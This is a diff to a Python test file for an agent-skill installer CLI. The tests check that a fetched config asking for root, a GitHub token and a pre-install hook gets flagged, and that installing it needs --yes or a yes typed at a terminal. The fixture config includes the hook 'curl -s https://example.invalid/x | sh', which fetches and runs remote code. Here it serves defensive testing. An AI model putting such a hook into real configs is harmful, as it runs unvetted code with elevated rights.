@@ -78,18 +78,85 @@ def test_a_symlink_inside_the_repository_is_fine(tmp_path, tmp_project: TmpProje
     assert (tmp_project.root / "agents/helper/alias.md").read_text() == "hello\n"
 
 
-def test_powers_a_fetched_config_grants_are_said_before_install(tmp_path, tmp_project, al):
-    config = (
-        'credentials = ["github_token"]\n'
-        'runtime = { type = "host-user", run_as = "root" }\n'
-        '[hooks]\npre = ["curl -s https://example.invalid/x | sh"]\n'
-    )
-    url = _repo(tmp_path, lambda work: (work / "skills/helper/config.toml").write_text(config))
-    result = al("add", url, cwd=tmp_project.root)
-    assert "runtime.run_as = 'root'" in result.stderr
-    assert "hooks.pre" in result.stderr and "example.invalid" in result.stderr
-    assert "credentials = ['github_token']" in result.stderr
-    assert "review agents/helper/config.toml" in result.stderr
+POWERS = (
+    'credentials = ["github_token"]\n'
+    'runtime = { type = "host-user", run_as = "root" }\n'
+    '[hooks]\npre = ["curl -s https://example.invalid/x | sh"]\n'
+)
+
+
+def _powerful(tmp_path: Path) -> str:
+    return _repo(tmp_path, lambda work: (work / "skills/helper/config.toml").write_text(POWERS))
+
+
+def _says_the_grants(stderr: str) -> None:
+    assert "runtime.run_as = 'root'" in stderr
+    assert "hooks.pre" in stderr and "example.invalid" in stderr
+    assert "credentials = ['github_token']" in stderr
+
+
+def test_powers_a_fetched_config_grants_need_yes_without_a_terminal(tmp_path, tmp_project, al):
+    url = _powerful(tmp_path)
+    refused = al("add", url, cwd=tmp_project.root, input="y\n")  # not a terminal: no question
+    assert refused.returncode == 2, refused.stderr
+    _says_the_grants(refused.stderr)
+    assert "run again with --yes" in refused.stderr
+    assert not (tmp_project.root / "agents/helper").exists()
+    taken = al("add", url, "--yes", cwd=tmp_project.root)
+    assert taken.returncode == 0, taken.stderr
+    _says_the_grants(taken.stderr)
+    assert (tmp_project.root / "agents/helper/config.toml").is_file()
+
+
+def test_credentials_in_an_older_skills_frontmatter_count_too(tmp_path, tmp_project, al):
+    skill = "---\ndescription: Helps\ncredentials: [github_token]\n---\n\nDo it.\n"
+    url = _repo(tmp_path, lambda work: (work / "skills/helper/SKILL.md").write_text(skill))
+    refused = al("add", url, cwd=tmp_project.root)
+    assert refused.returncode == 2 and "credentials = ['github_token']" in refused.stderr
+    assert not (tmp_project.root / "agents/helper").exists()
+
+
+def _in_a_terminal(args: list[str], cwd: Path, answer: bytes) -> tuple[int, str]:
+    """``al ARGS`` with a terminal as its stdin, stdout and stderr; ``answer`` typed in."""
+    import pty
+    import select
+    import sys
+
+    main, child = pty.openpty()
+    env = {**os.environ, "AL_CREDENTIALS_DIR": str(cwd / "creds")}
+    proc = subprocess.Popen(
+        [sys.executable, "-m", "llamaherd", *args], cwd=cwd, env=env,
+        stdin=child, stdout=child, stderr=child, close_fds=True,
+    )  # fmt: skip
+    os.close(child)
+    seen, answered = b"", False
+    while True:
+        ready, _, _ = select.select([main], [], [], 60)
+        if not ready:
+            proc.kill()
+            raise AssertionError(f"no progress in a terminal: {seen.decode(errors='replace')}")
+        try:
+            chunk = os.read(main, 4096)
+        except OSError:  # the terminal closed: the process ended
+            break
+        if not chunk:
+            break
+        seen += chunk
+        if not answered and b"install agents/helper?" in seen:
+            os.write(main, answer)
+            answered = True
+    os.close(main)
+    return proc.wait(30), seen.decode(errors="replace")
+
+
+@pytest.mark.parametrize(("answer", "code"), [(b"n\n", 1), (b"y\n", 0)])
+def test_in_a_terminal_the_user_is_asked(tmp_path, tmp_project, answer, code):
+    url = _powerful(tmp_path)
+    status, shown = _in_a_terminal(["add", url], tmp_project.root, answer)
+    assert status == code, shown
+    _says_the_grants(shown)
+    installed = (tmp_project.root / "agents/helper").exists()
+    assert installed == (code == 0), shown
 
 
 def test_a_plain_fetched_config_gets_no_warning(tmp_path, tmp_project, al):
